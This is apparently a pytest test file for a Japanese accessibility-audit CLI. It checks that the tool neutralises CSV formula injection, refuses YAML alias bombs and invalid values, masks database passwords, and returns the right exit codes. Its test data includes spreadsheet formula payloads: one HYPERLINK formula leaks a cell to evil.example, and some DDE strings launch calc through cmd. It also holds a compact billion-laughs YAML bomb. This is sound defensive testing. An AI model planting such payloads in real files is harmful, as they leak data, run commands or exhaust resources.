"""Hostile inputs, round two (issue 22): CSV formula injection, YAML alias bombs and other YAML the tool must
refuse, database URLs with passwords, and the exit codes of bad input (2) and broken infrastructure (3) — never a
traceback with exit 1, which CI reads as "gate failed". Real SQLite stores built from saved Chromium artifacts
(tests/fixtures), real files, a real full tmpfs; no browser."""

from __future__ import annotations

import csv
import io
import os
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from a11yaudit.audit import AuditOptions, reevaluate_artifacts
from a11yaudit.cli import cli
from a11yaudit.config import load_sites
from a11yaudit.errors import ConfigError
from a11yaudit.gate import load_baseline_file
from a11yaudit.rules.loader import load_rules
from a11yaudit.store.db import Store, mask_url
from a11yaudit.yamlsrc import load_yaml

ROOT = Path(__file__).resolve().parents[2]
FIXTURES = ROOT / "tests" / "fixtures" / "artifacts" / "sample"

HOSTILE_TITLES = [" =1+1", '=HYPERLINK("http://evil.example/?leak="&A1,"クリック")', "@SUM(1+1)*cmd|' /C calc'!A0",
                  "+1+1", "-2+3", "\t=1+1", "\r=1+1", "＝1+1"]

# 363 bytes (the tester's was 418): nine levels of nine aliases each = 9⁹ (387 million) strings once expanded.
BOMB = ('version: 1\n'
        'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
        + "".join(f"{n}: &{n} [*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p}]\n"
                  for p, n in zip("abcdefgh", "bcdefghi"))
        + "sites: *i\n")


@pytest.fixture(scope="module")
def audited(tmp_path_factory):
    """A finished run re-evaluated from saved artifacts into a real SQLite file; its page titles are hostile."""
    tmp = tmp_path_factory.mktemp("hostile")
    site = load_sites(ROOT / "sites.yaml", known_profiles={"jis2016", "jis2010", "wcag22"}).sites[0]
    db = tmp / "a.sqlite"
    store = Store(f"sqlite:///{db}")
    run_id = reevaluate_artifacts(site, store, load_rules(), AuditOptions(
        profile="jis2016", viewports=["pc", "sp"], artifacts_root=tmp / "art", quiet=True), FIXTURES)
    pages = [p for p in store.run_pages(run_id) if p["scope"] == "in_scope" and p["kind"] == "html"]
    titles = {}
    with sqlite3.connect(db) as conn:
        for page, title in zip(pages, HOSTILE_TITLES):
            conn.execute("UPDATE pages SET title = ? WHERE id = ?", (title, page["id"]))
            titles[page["url"]] = title
    store.engine.dispose()
    return {"tmp": tmp, "db": db, "url": f"sqlite:///{db}", "run": run_id, "titles": titles}


def _run(*args, env=None):
    return CliRunner(env=env).invoke(cli, [str(a) for a in args])


def _read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")           # still UTF-8 with BOM for Excel
    return list(csv.reader(io.StringIO(raw[3:].decode("utf-8"), newline="")))


def _title_cells(rows, titles):
    header, body = rows[0], rows[1:]
    url_col, title_col = header.index("URL"), header.index("タイトル")
    return {r[url_col]: r[title_col] for r in body if r[url_col] in titles}


# --- 6. CSV formula injection ------------------------------------------------------------------------------

def test_sample_csv_neutralises_formula_titles(audited):
    out = audited["tmp"] / "sample-urls.csv"
    res = _run("--db", audited["url"], "sample", "sample", "--method", "a", "--csv", out)
    assert res.exit_code == 0, res.output
    cells = _title_cells(_read_csv(out), audited["titles"])
    assert len(cells) == len(audited["titles"]) >= 6
    for url, title in audited["titles"].items():
        # One single quote in front; the rest (quotes, commas, tabs, CR) kept intact by the CSV quoting.
        assert cells[url] == "'" + title, (url, cells[url])


def test_shiken_csv_files_neutralise_formula_titles(audited):
    rep = audited["tmp"] / "rep"
    res = _run("--db", audited["url"], "shiken", "sample", "--format", "csv", "--reports-dir", rep)
    assert res.exit_code == 0, res.output
    folder = rep / "sample" / str(audited["run"]) / "shiken"
    for name in ("shiken-pages.csv", "shiken-urls.csv"):
        cells = _title_cells(_read_csv(folder / name), audited["titles"])
        assert cells and all(cells[u] == "'" + audited["titles"][u] for u in cells), name
    for row in _read_csv(folder / "shiken-checklist.csv")[1:]:
        assert not row[0].startswith(("=", "+", "-", "@"))


def test_ordinary_cells_and_numbers_are_left_alone():
    from a11yaudit.report.csvsafe import csv_text
    text = csv_text([["No.", "タイトル", "値"], [1, "くらしの情報 - みどり県", -2], [2, "", None]])
    assert list(csv.reader(io.StringIO(text))) == [["No.", "タイトル", "値"], ["1", "くらしの情報 - みどり県", "-2"],
                                                  ["2", "", ""]]


def test_trend_csv_neutralises_section_names():
    from a11yaudit.report.trend import to_csv
    period = {"run": 3, "date": "2026-04-01", "fiscal_year": 2026, "quarter": 1, "audited": 2, "in_scope": 2,
              "with_problems": 1, "problem_share": 0.5, "failed_findings": 4, "diff": None,
              "sections": {"=cmd|'/C calc'!A0": {"audited": 1, "in_scope": 1, "with_problems": 1,
                                                  "problem_share": 1.0, "failed_findings": 4}}}
    rows = list(csv.DictReader(io.StringIO(to_csv({"quarterly": False, "periods": [period]}))))
    assert [r["section"] for r in rows] == ["*", "'=cmd|'/C calc'!A0"]


# --- 7 and 17. YAML the tool refuses -----------------------------------------------------------------------

def _sites_yaml(tmp: Path, body: str) -> Path:
    p = tmp / "sites.yaml"
    p.write_text(body, encoding="utf-8")
    return p


def test_alias_bomb_in_sites_yaml_is_refused_at_once(tmp_path):
    p = _sites_yaml(tmp_path, BOMB)
    assert len(BOMB.encode()) <= 418
    started = time.monotonic()
    res = _run("-c", p, "check-config")
    assert time.monotonic() - started < 5
    assert res.exit_code == 2, res.output
    assert f"{p}:3: b[0]: YAML aliases (*name) are not accepted" in res.output


SITE = """version: 1
sites:
  - id: s
    name: テスト
    start_urls: ["https://www.pref.example.jp/"]
"""


@pytest.mark.parametrize("extra,line,field,words", [
    ("    crawl: {delay: .nan}\n", 6, "sites[0].crawl.delay", "'.nan' is not a finite number"),
    ("    crawl:\n      timeout: .inf\n", 7, "sites[0].crawl.timeout", "'.inf' is not a finite number"),
    ("    crawl:\n      delay: -.Inf\n", 7, "sites[0].crawl.delay", "'-.Inf' is not a finite number"),
    ("    name: 二つ目\n", 6, "sites[0].name", "duplicate key 'name' (first at line 4)"),
    ("    policy:\n      deadline: 2026-02-30\n", 7, "sites[0].policy.deadline", "'2026-02-30' is not a valid date"),
    ("    policy:\n      statement_date: 2026-13-01\n", 7, "sites[0].policy.statement_date", "not a valid date"),
    ("    start_urls: &u ['https://a.example.jp/']\n    allowed_hosts: *u\n", 6, "sites[0].allowed_hosts",
     "YAML aliases"),
])
def test_sites_yaml_refuses_nan_duplicates_bad_dates_and_aliases(tmp_path, extra, line, field, words):
    body = SITE if "start_urls" not in extra else SITE.replace('    start_urls: ["https://www.pref.example.jp/"]\n', "")
    p = _sites_yaml(tmp_path, body + extra)
    res = _run("-c", p, "check-config")
    assert res.exit_code == 2, res.output
    assert f"{p}:{line}: {field}: " in res.output and words in res.output, res.output
    with pytest.raises(ConfigError) as exc:
        load_yaml(p)
    assert (exc.value.line, exc.value.field) == (line, field)


def test_malformed_ipv6_start_url_is_a_config_error(tmp_path):
    p = _sites_yaml(tmp_path, SITE.replace("https://www.pref.example.jp/", "http://[::1/"))
    res = _run("-c", p, "check-config")
    assert res.exit_code == 2, res.output
    assert f"{p}:5: sites[0].start_urls[0]: must be an http(s) URL, got 'http://[::1/' (Invalid IPv6 URL)" \
        in res.output


@pytest.mark.parametrize("spec,base,field", [("http://[::1/", None, "TARGET"), ("http://127.0.0.1:99999/", None, "TARGET"),
                                             ("-", "http://[::1/", "--base-url")])
def test_gate_malformed_target_urls_are_config_errors(spec, base, field):
    from a11yaudit.gate import resolve_targets
    with pytest.raises(ConfigError) as exc:
        resolve_targets([spec], base_url=base, sites=[], profile=None, read_stdin=lambda: b"<p>x</p>")
    assert exc.value.field == field and ("Invalid IPv6 URL" in str(exc.value) or "Port out of range" in str(exc.value))


FP = "3f2a" + "0" * 36


@pytest.mark.parametrize("text,line,field,words", [
    (BOMB.replace("sites: *i", "entries: *i"), 3, "b[0]", "YAML aliases"),
    (f"- fingerprint: {FP}\n  expires: 2026-02-30\n", 2, "[0].expires", "'2026-02-30' is not a valid date"),
    (f"- fingerprint: {FP}\n  accepted_at: 2026-02-29\n", 2, "[0].accepted_at", "not a valid date"),
    (f"- fingerprint: {FP}\n  reason: a\n  reason: b\n", 3, "[0].reason", "duplicate key 'reason'"),
    (f"- fingerprint: {FP}\n  viewport: .NaN\n", 2, "[0].viewport", "not a finite number"),
])
def test_gate_baseline_refuses_bombs_bad_dates_duplicates_nan(tmp_path, text, line, field, words):
    p = tmp_path / "baseline.yaml"
    p.write_text(text, encoding="utf-8")
    with pytest.raises(ConfigError) as exc:
        load_baseline_file(p)
    assert (exc.value.file, exc.value.line, exc.value.field) == (str(p), line, field), str(exc.value)
    assert words in str(exc.value)


@pytest.mark.parametrize("text,line,field,words", [
    (f'[{{"fingerprint": "{FP}",\n  "reason": "a", "reason": "b"}}]', 2, "[0].reason", "duplicate key 'reason'"),
    (f'[{{"fingerprint": "{FP}",\n  "reason": "NaN",\n  "viewport": NaN}}]', 3, None, "NaN is not a finite number"),
    (f'[{{"fingerprint": "{FP}",\n  "viewport": -Infinity}}]', 2, None, "-Infinity is not a finite number"),
    (f'[{{"fingerprint": "{FP}",\n  "expires": "2026-02-30"}}]', None, "[0].expires", "must be a date YYYY-MM-DD"),
])
def test_json_baseline_refuses_duplicates_nan_and_bad_dates(tmp_path, text, line, field, words):
    p = tmp_path / "baseline.json"
    p.write_text(text, encoding="utf-8")
    with pytest.raises(ConfigError) as exc:
        load_baseline_file(p)
    assert (exc.value.file, exc.value.line, exc.value.field) == (str(p), line, field), str(exc.value)
    assert words in str(exc.value)


@pytest.mark.parametrize("text,line,words", [
    (BOMB.replace("sites: *i", "verdicts: *i"), 3, "YAML aliases"),
    ("verdicts:\n  - {criterion: 1.1.1, result: 適合, date: 2026-02-30}\n", 2, "'2026-02-30' is not a valid date"),
    ("date: 2026-04-31\nverdicts:\n  - {criterion: 1.1.1, result: 適合}\n", 1, "not a valid date"),
    ("verdicts:\n  - criterion: 1.1.1\n    result: 適合\n    result: 不適合\n", 4, "duplicate key 'result'"),
])
def test_human_yaml_refused_with_exit_2(audited, text, line, words):
    bad = audited["tmp"] / "human.yaml"
    bad.write_text(text, encoding="utf-8")
    started = time.monotonic()
    res = _run("--db", audited["url"], "shiken", "sample", "--human", bad, "--format", "json",
               "--reports-dir", audited["tmp"] / "rep-h")
    assert time.monotonic() - started < 10
    assert res.exit_code == 2, res.output
    assert f"{bad}:{line}: " in res.output and words in res.output, res.output


# --- 8. database URLs with passwords ----------------------------------------------------------------------

@pytest.mark.parametrize("url,secrets", [
    ("postgresql://alice:p@ss:w/rd@db.example.jp/audit", ["p@ss", "ss:w", "w/rd", "'w'"]),
    ("postgresql://alice:s3cr3t@db.example.jp:notaport/audit", ["s3cr3t"]),
    ("postgresql://alice:s3cr3t@[::1/audit", ["s3cr3t"]),
    ("nosuchdb+driver://bob:hunter2@h/x", ["hunter2"]),
])
def test_unparsable_database_url_never_shows_the_password(url, secrets):
    res = _run("--db", url, "runs")
    assert res.exit_code == 2, res.output
    assert "--db: cannot use database URL" in res.output and ":***@" in res.output
    for secret in secrets:
        assert secret not in res.output, res.output


def test_any_url_password_in_an_error_is_masked(tmp_path):
    p = _sites_yaml(tmp_path, SITE + '    crawl: {engine: selenium, grid: "ftp://bob:hunter2@grid.example.jp/"}\n')
    res = _run("-c", p, "check-config")
    assert res.exit_code == 2 and "ftp://bob:***@grid.example.jp/" in res.output and "hunter2" not in res.output


def test_mask_url():
    assert mask_url("postgresql://u:pw@h/d") == "postgresql://u:***@h/d"
    assert mask_url("x 'postgresql://u:a@b:c/d@h:5432/db' y") == "x 'postgresql://u:***@h:5432/db' y"
    assert mask_url("host=h password=hunter2 user=u") == "host=h password=*** user=u"
    assert mask_url("sqlite:////var/lib/a11yaudit/a.sqlite") == "sqlite:////var/lib/a11yaudit/a.sqlite"


# --- 17. exit codes: bad input 2, infrastructure 3 ----------------------------------------------------------

def test_output_into_an_impossible_path_is_exit_2(audited):
    for args in (["trend", "sample", "-o", "/proc/a11yaudit/trend.html"],
                 ["scope", "plan", "sample", "-o", "/proc/a11yaudit/plan.html"],
                 ["report", "sample", "--reports-dir", "/proc/a11yaudit"],
                 ["sample", "sample", "--csv", "/proc/a11yaudit/urls.csv"]):
        res = _run("--db", audited["url"], *args)
        assert res.exit_code == 2, (args, res.output)
        assert "a11yaudit: error: /proc/a11yaudit" in res.output and "Traceback" not in res.output, res.output


def _copy_db(src: Path, dst: Path) -> None:
    """A consistent copy (the WAL included) through SQLite's backup API."""
    with sqlite3.connect(src) as a, sqlite3.connect(dst) as b:
        a.backup(b)
    with sqlite3.connect(dst) as b:
        b.execute("PRAGMA journal_mode=DELETE")


def test_database_of_a_newer_schema_is_exit_2(audited, tmp_path):
    db = tmp_path / "newer.sqlite"
    _copy_db(audited["db"], db)
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE alembic_version SET version_num = '0099_from_the_future'")
    res = _run("--db", f"sqlite:///{db}", "runs")
    assert res.exit_code == 2, res.output
    assert "Can't locate revision identified by '0099_from_the_future'" in res.output
    assert "written by a newer a11yaudit" in res.output


def test_lightly_corrupted_database_is_exit_3(audited, tmp_path):
    db = tmp_path / "damaged.sqlite"
    _copy_db(audited["db"], db)
    with open(db, "r+b") as fh:       # a few pages of the findings overwritten; the header and schema survive
        fh.seek(4096 * 3)
        fh.write(b"\xde\xad" * 4096)
    res = _run("--db", f"sqlite:///{db}", "report", "sample", "--reports-dir", tmp_path / "rep")
    assert res.exit_code == 3, res.output
    assert "database disk image is malformed" in res.output and "データベースファイルが壊れています" in res.output


@pytest.fixture
def full_disk(tmp_path):
    """A 64 KiB tmpfs, nearly filled: writing a report into it runs out of space."""
    mnt = tmp_path / "full"
    mnt.mkdir()
    if os.geteuid() != 0 or subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(mnt)]).returncode:
        pytest.skip("needs root to mount a tmpfs")
    try:
        with open(mnt / "filler", "wb") as fh:
            try:
                fh.write(b"\0" * (56 * 1024))
            except OSError:
                pass
        yield mnt
    finally:
        subprocess.run(["umount", "-l", str(mnt)], check=False)


def test_full_disk_during_report_and_trend_is_exit_3_and_leaves_no_half_file(audited, full_disk):
    res = _run("--db", audited["url"], "report", "sample", "--reports-dir", full_disk / "rep")
    assert res.exit_code == 3, res.output
    assert "ディスクの空きがありません — no space left on the device" in res.output
    res = _run("--db", audited["url"], "trend", "sample", "-o", full_disk / "trend.html")
    assert res.exit_code == 3, res.output
    assert f"{full_disk / 'trend.html'}: ディスクの空きがありません" in res.output
    left = sorted(p.name for p in full_disk.rglob("*") if p.is_file())
    assert left == ["filler"], left        # no truncated index.html / trend.html, no *.tmp


def test_cli_never_exits_1_on_a_traceback(tmp_path):
    """The real command in a real process: a malformed --db and a malformed config end with 2, no traceback."""
    bad = _sites_yaml(tmp_path, "version: 1\nsites:\n  - id: s\n    name: x\n    start_urls: ['http://[::1/']\n")
    for args in (["--db", "postgresql://u:p@ss@h:x/d", "runs"], ["-c", str(bad), "audit"]):
        proc = subprocess.run([sys.executable, "-m", "a11yaudit.cli", *args], capture_output=True, text=True,
                              timeout=60, cwd=tmp_path)
        assert proc.returncode == 2, proc.stderr
        assert "Traceback" not in proc.stderr and proc.stderr.startswith("a11yaudit: error: ")


# --- 17. a run another live process is auditing cannot be resumed; a dead process's run can ------------------

_HOLDER = """
import sys, time
from a11yaudit.store.db import Store
Store(sys.argv[1]).claim_run(int(sys.argv[2]))
print("held", flush=True)
time.sleep(120)
"""


def _claim_in_other_process(url: str, run_id: int) -> subprocess.Popen:
    proc = subprocess.Popen([sys.executable, "-c", _HOLDER, url, str(run_id)], stdout=subprocess.PIPE, text=True)
    assert proc.stdout.readline().strip() == "held"
    return proc


def _claim_runs(url: str, run_id: int, tmp_path) -> None:
    from a11yaudit.config import load_sites as _ls
    site = _ls(ROOT / "sites.yaml", known_profiles={"jis2016"}).sites[0]
    store = Store(url)
    if not store.list_runs():
        store.create_run(site, profile="jis2016", viewports=["pc"], axe_version="4.12.1", tool_version="t",
                         source="crawl", artifacts_dir=None, config={})
    holder = _claim_in_other_process(url, run_id)
    try:
        with pytest.raises(ConfigError) as exc:
            store.claim_run(run_id)
        assert exc.value.field == "--resume" and f"run {run_id} is being audited by another process" in str(exc.value)
        store.claim_run(run_id + 1)            # other runs are free
        store.release_run(run_id + 1)
        res = _run("--db", url, "audit", "sample", "--resume", run_id, "--no-report", "-q")
        assert res.exit_code == 2 and "being audited by another process" in res.output, res.output
    finally:
        holder.kill()                          # kill -9: the lock goes with the process
        holder.wait()
    store.claim_run(run_id)                    # a run left by a dead process is free at once
    store.claim_run(run_id)                    # (idempotent in one process)
    store.release_run(run_id)


def test_run_claim_sqlite(tmp_path):
    _claim_runs(f"sqlite:///{tmp_path / 'claim.sqlite'}", 1, tmp_path)


def test_run_claim_postgresql(tmp_path):
    sys.path.insert(0, str(ROOT / "tests"))
    from pgtools import postgres_or_skip
    server = postgres_or_skip()
    try:
        _claim_runs(server.create_db("claims"), 1, tmp_path)
    finally:
        server.stop()
